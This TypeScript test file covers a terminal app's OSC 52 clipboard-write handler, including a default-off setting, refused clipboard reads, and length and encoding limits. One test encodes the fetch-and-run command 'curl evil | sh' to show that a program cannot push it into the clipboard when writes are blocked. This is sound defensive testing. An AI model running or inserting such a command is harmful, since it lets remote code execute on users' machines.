import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { DEFAULT_SETTINGS } from '../../../main/settings/settings-schema'
import { OSC52_MAX_TEXT, readOsc52 } from './osc'

const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64')

describe('OSC 52: a program setting the clipboard', () => {
  it('is off by default', () => {
    expect(DEFAULT_SETTINGS.terminalClipboardWrite).toBe(false)
  })

  it('writes only when the user allows it', () => {
    expect(readOsc52(`c;${b64('ünïcødé text')}`, true)).toEqual({ kind: 'write', text: 'ünïcødé text' })
    expect(readOsc52(`c;${b64('curl evil | sh\n')}`, false)).toEqual({ kind: 'refused', why: 'blocked' })
    expect(readOsc52(`;${b64('no selection named')}`, true)).toEqual({ kind: 'write', text: 'no selection named' })
  })

  it('never answers a read of the clipboard, even when writes are allowed', () => {
    expect(readOsc52('c;?', true)).toEqual({ kind: 'refused', why: 'read' })
  })

  it('takes at most OSC52_MAX_TEXT characters, and only base64 of UTF-8', () => {
    expect(readOsc52(`c;${b64('x'.repeat(OSC52_MAX_TEXT))}`, true)).toMatchObject({ kind: 'write' })
    expect(readOsc52(`c;${b64('x'.repeat(OSC52_MAX_TEXT + 10))}`, true)).toEqual({ kind: 'refused', why: 'too-long' })
    expect(readOsc52(`c;${'A'.repeat(10_000_000)}`, true)).toEqual({ kind: 'refused', why: 'too-long' })
    expect(readOsc52('c;not base64!', true)).toEqual({ kind: 'refused', why: 'invalid' })
    expect(readOsc52(`c;${Buffer.from([0xff, 0xfe]).toString('base64')}`, true)).toEqual({ kind: 'refused', why: 'invalid' })
    expect(readOsc52('no separator', true)).toEqual({ kind: 'refused', why: 'invalid' })
  })
})

describe('OSC 52, whatever a program sends', () => {
  it('never throws, never answers a read, and writes at most OSC52_MAX_TEXT characters, only when allowed', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 300 }),
          fc.string({ maxLength: 2_000 }).map((text) => `c;${Buffer.from(text).toString('base64')}`),
          fc.base64String({ maxLength: 400 }).map((payload) => `p;${payload}`)
        ),
        fc.boolean(),
        (data, allowed) => {
          const request = readOsc52(data, allowed)
          if (request.kind === 'write') {
            expect(allowed).toBe(true)
            expect(request.text.length).toBeLessThanOrEqual(OSC52_MAX_TEXT)
          }
          if (data.endsWith(';?')) expect(request).toEqual({ kind: 'refused', why: 'read' })
        }
      )
    )
  })
})
